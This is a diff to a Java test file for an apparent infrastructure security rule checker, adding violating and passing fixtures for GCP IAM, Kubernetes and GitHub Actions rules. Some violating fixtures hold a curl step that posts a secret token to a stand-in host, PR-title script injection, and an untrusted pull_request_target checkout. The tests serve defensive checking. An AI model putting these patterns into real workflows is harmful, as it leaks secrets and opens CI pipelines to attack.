@@ -69,7 +69,7 @@ class RulesTest {
                 "members[1]"));
         cases.add(grant("KURA-GCP-004", "gcp:secretmanager/secretIamMember:SecretIamMember", "allUsers", "member"));
         cases.add(grant("KURA-GCP-005", "gcp:kms/cryptoKeyIAMMember:CryptoKeyIAMMember", "allUsers", "member"));
-        cases.add(single("KURA-GCP-006", "policyData", "gcp:projects/iAMPolicy:IAMPolicy",
+        cases.add(single("KURA-GCP-006", "policyData.bindings[0].members[0]", "gcp:projects/iAMPolicy:IAMPolicy",
                 "{'policyData':'{\\'bindings\\':[{\\'role\\':\\'roles/viewer\\',\\'members\\':[\\'allUsers\\']}]}'}",
                 "{'policyData':'{\\'bindings\\':[{\\'role\\':\\'roles/viewer\\',\\'members\\':[\\'group:ops@kuraos.ai\\']}]}'}"));
         cases.add(single("KURA-GCP-010", "publicAccessPrevention", BUCKET, "{'publicAccessPrevention':'inherited'}",
@@ -173,6 +173,32 @@ class RulesTest {
         cases.add(single("KURA-IAM-006", "attributeCondition",
                 "gcp:iam/workloadIdentityPoolProvider:WorkloadIdentityPoolProvider", "{'attributeCondition':''}",
                 "{'attributeCondition':'assertion.repository == \\'kura-os/kura-infra\\''}"));
+        cases.add(new Case("KURA-IAM-007", "policyData", plan(resource("gcp:projects/iAMPolicy:IAMPolicy", "policy",
+                "{'project':'p','policyData':'{\\'bindings\\':[{\\'role\\':\\'roles/run.admin\\',\\'members\\':[\\'group:ops@kuraos.ai\\']}]}'}")),
+                plan(resource(PROJECT_MEMBER, "grant", "{'project':'p','role':'roles/run.admin','member':'group:ops@kuraos.ai'}"))));
+        cases.add(new Case("KURA-IAM-008", "member",
+                plan(resource("gcp:serviceaccount/iAMMember:IAMMember", "grant", "{'role':'roles/iam.workloadIdentityUser',"
+                        + "'member':'principalSet://iam.googleapis.com/${pool.name}/*'}")),
+                plan(resource("gcp:serviceaccount/iAMMember:IAMMember", "grant", "{'role':'roles/iam.workloadIdentityUser',"
+                        + "'member':'principalSet://iam.googleapis.com/${pool.name}/attribute.environment/prod'}"))));
+        cases.add(single("KURA-IAM-009", "condition.expression", PROJECT_MEMBER,
+                "{'role':'roles/logging.viewer','member':'group:ops@kuraos.ai','condition':{'title':'until',"
+                        + "'expression':'request.time < timestamp(\\'2099-01-01T00:00:00Z\\')'}}",
+                "{'role':'roles/logging.viewer','member':'group:ops@kuraos.ai','condition':{'title':'until',"
+                        + "'expression':'request.time < timestamp(\\'2027-01-31T00:00:00Z\\')'}}"));
+        cases.add(single("KURA-IAM-011", "role", PROJECT_MEMBER,
+                "{'role':'roles/iam.securityAdmin','member':'user:someone@gmail.com'}",
+                "{'role':'roles/resourcemanager.projectIamAdmin','member':'serviceAccount:d@p.iam.gserviceaccount.com',"
+                        + "'condition':{'title':'only these','expression':'api.getAttribute(\\'iam.googleapis.com/"
+                        + "modifiedGrantsByRole\\', []).hasOnly([\\'roles/run.invoker\\'])'}}"));
+        cases.add(new Case("KURA-IAM-012", "role",
+                plan(resource(PROJECT_MEMBER, "sa-admin", "{'role':'roles/iam.serviceAccountAdmin','member':'user:a@kuraos.ai'}"),
+                        resource(PROJECT_MEMBER, "sa-user", "{'role':'roles/iam.serviceAccountUser','member':'user:a@kuraos.ai'}")),
+                plan(resource(PROJECT_MEMBER, "sa-admin", "{'role':'roles/iam.serviceAccountAdmin','member':'user:a@kuraos.ai'}"),
+                        resource(PROJECT_MEMBER, "sa-user", "{'role':'roles/iam.serviceAccountUser','member':'user:b@kuraos.ai'}"))));
+        cases.add(single("KURA-GCP-007", "accesses[1].specialGroup", "gcp:bigquery/dataset:Dataset",
+                "{'accesses':[{'role':'OWNER','groupByEmail':'ops@kuraos.ai'},{'role':'READER','specialGroup':'allAuthenticatedUsers'}]}",
+                "{'accesses':[{'role':'OWNER','groupByEmail':'ops@kuraos.ai'},{'role':'READER','specialGroup':'projectReaders'}]}"));
         // GKE: where the plan is silent, Autopilot's enforced defaults pass
         cases.add(cluster("KURA-GKE-001", "privateClusterConfig.enablePrivateNodes", "{'enableAutopilot':true}",
                 "{'enableAutopilot':true,'privateClusterConfig':{'enablePrivateNodes':true}}"));
@@ -214,6 +240,21 @@ class RulesTest {
         cases.add(pod("KURA-K8S-012", "containers[0].readinessProbe", spec -> container(spec).remove("readinessProbe")));
         cases.add(pod("KURA-K8S-013", "containers[0].image", spec -> container(spec).put("image", "nginx:latest")));
         cases.add(pod("KURA-K8S-014", "automountServiceAccountToken", spec -> spec.remove("automountServiceAccountToken")));
+        cases.add(pod("KURA-K8S-016", "containers[0].env[0].valueFrom.secretKeyRef",
+                spec -> container(spec).putArray("env").addObject().put("name", "KAFKA_PASSWORD").putObject("valueFrom")
+                        .putObject("secretKeyRef").put("name", "kafka-user").put("key", "password")));
+        cases.add(single("KURA-K8S-022", "spec.ingress[0]", "kubernetes:networking.k8s.io/v1:NetworkPolicy",
+                "{'kind':'NetworkPolicy','metadata':{'name':'default-deny','namespace':'apps'},"
+                        + "'spec':{'podSelector':{},'policyTypes':['Ingress'],'ingress':[{}]}}",
+                "{'kind':'NetworkPolicy','metadata':{'name':'default-deny','namespace':'apps'},"
+                        + "'spec':{'podSelector':{},'policyTypes':['Ingress','Egress']}}"));
+        cases.addAll(workflowCases());
+        cases.add(pod("KURA-K8S-002", "containers[0].ports[0].hostPort",
+                spec -> container(spec).putArray("ports").addObject().put("containerPort", 8080).put("hostPort", 8080)));
+        for (var flag : List.of("KURA-SQL-021:log_executor_stats", "KURA-SQL-022:log_parser_stats",
+                "KURA-SQL-023:log_planner_stats", "KURA-SQL-024:log_statement_stats")) {
+            cases.add(sqlFlag(flag.split(":")[0], flag.split(":")[1], "on", "off"));
+        }
         cases.add(new Case("KURA-K8S-015", "metadata.namespace",
                 plan(inNamespace("default")), plan(deployment(spec -> {
         }))));
@@ -240,6 +281,48 @@ class RulesTest {
                 "{'kind':'ConfigMap','metadata':{'name':'settings','labels':{'app.kubernetes.io/name':'app',"
                         + "'app.kubernetes.io/part-of':'kura','app.kubernetes.io/managed-by':'pulumi'}}}"));
         return cases;
+    }
+
+    private static Case workflow(String rule, String path, String violating, String passing) {
+        return single(rule, path, Workflows.TYPE, violating, passing);
+    }
+
+    static List<Case> workflowCases() {
+        var checkout = "{'uses':'actions/checkout@v4','with':{'ref':'%s'}}";
+        return List.of(
+                workflow("KURA-GHA-001", "jobs.comment.steps[0].with.ref",
+                        "{'on':{'pull_request_target':{}},'jobs':{'comment':{'steps':[" + checkout.formatted(
+                                "${{ github.event.pull_request.head.sha }}") + "]}}}",
+                        "{'on':{'pull_request_target':{}},'jobs':{'comment':{'steps':[" + checkout.formatted(
+                                "${{ github.sha }}") + "]}}}"),
+                workflow("KURA-GHA-002", "jobs.check.steps[0].run",
+                        "{'on':'pull_request','jobs':{'check':{'steps':[{'run':'echo \\'${{ github.event.pull_request.title }}\\''}]}}}",
+                        "{'on':'pull_request','jobs':{'check':{'steps':[{'run':'echo \\'$TITLE\\'','env':"
+                                + "{'TITLE':'${{ github.event.pull_request.title }}'}}]}}}"),
+                workflow("KURA-GHA-003", "permissions", "{'on':'push','permissions':'write-all'}",
+                        "{'on':'push','permissions':{'contents':'read'}}"),
+                workflow("KURA-GHA-004", "jobs.login.steps[0].run",
+                        "{'on':'push','jobs':{'login':{'steps':[{'run':'echo \\\"token is $TOKEN\\\"','env':"
+                                + "{'TOKEN':'${{ secrets.PULUMI_ACCESS_TOKEN }}'}}]}}}",
+                        "{'on':'push','jobs':{'login':{'steps':[{'run':'echo \\\"$TOKEN\\\" | pulumi login --stdin',"
+                                + "'env':{'TOKEN':'${{ secrets.PULUMI_ACCESS_TOKEN }}'}}]}}}"),
+                workflow("KURA-GHA-005", "jobs.up.if",
+                        "{'on':{'workflow_run':{'workflows':['ci'],'types':['completed']}},'jobs':{'up':{}}}",
+                        "{'on':{'workflow_run':{'workflows':['ci'],'types':['completed']}},'jobs':{'up':{'if':"
+                                + "'github.event.workflow_run.conclusion == \\'success\\' && "
+                                + "github.event.workflow_run.event == \\'push\\''}}}"),
+                workflow("KURA-GHA-006", "jobs.preview.runs-on",
+                        "{'on':{'pull_request':{}},'jobs':{'preview':{'runs-on':['self-hosted','linux']}}}",
+                        "{'on':{'pull_request':{}},'jobs':{'preview':{'runs-on':'ubuntu-latest'}}}"),
+                workflow("KURA-GHA-008", "jobs.build.env.ACTIONS_ALLOW_UNSECURE_COMMANDS",
+                        "{'on':'push','jobs':{'build':{'env':{'ACTIONS_ALLOW_UNSECURE_COMMANDS':'true'}}}}",
+                        "{'on':'push','jobs':{'build':{'env':{'JAVA_TOOL_OPTIONS':'-Xmx1g'}}}}"),
+                workflow("KURA-GHA-009", "jobs.build.steps[0].run",
+                        "{'on':'push','jobs':{'build':{'steps':[{'run':'curl -d ${{ secrets.PULUMI_ACCESS_TOKEN }} https://x.example'}]}}}",
+                        "{'on':'push','jobs':{'build':{'steps':[{'run':'curl -fsS https://api.pulumi.com/api/user'}]}}}"),
+                workflow("KURA-GHA-007", "jobs.build.steps[0].uses",
+                        "{'on':'push','jobs':{'build':{'steps':[{'uses':'some-fork/setup-pulumi@master'}]}}}",
+                        "{'on':'push','jobs':{'build':{'steps':[{'uses':'pulumi/actions@v5'}]}}}"));
     }
 
     private static com.fasterxml.jackson.databind.node.ObjectNode context(com.fasterxml.jackson.databind.node.ObjectNode spec) {
@@ -300,7 +383,7 @@ class RulesTest {
     @Test
     void everyRuleNamesItsBenchmarkAndWhatItAppliesTo() {
         assertThat(Rules.all()).allSatisfy(rule -> {
-            assertThat(rule.id()).matches("KURA-(GCP|SQL|IAM|NET|LOG|GKE|K8S)-\\d{3}");
+            assertThat(rule.id()).matches("KURA-(GCP|SQL|IAM|NET|LOG|GKE|K8S|GHA)-\\d{3}");
             assertThat(rule.benchmark()).isNotBlank();
             assertThat(rule.appliesTo()).isNotBlank();
             assertThat(rule.title()).isNotBlank();
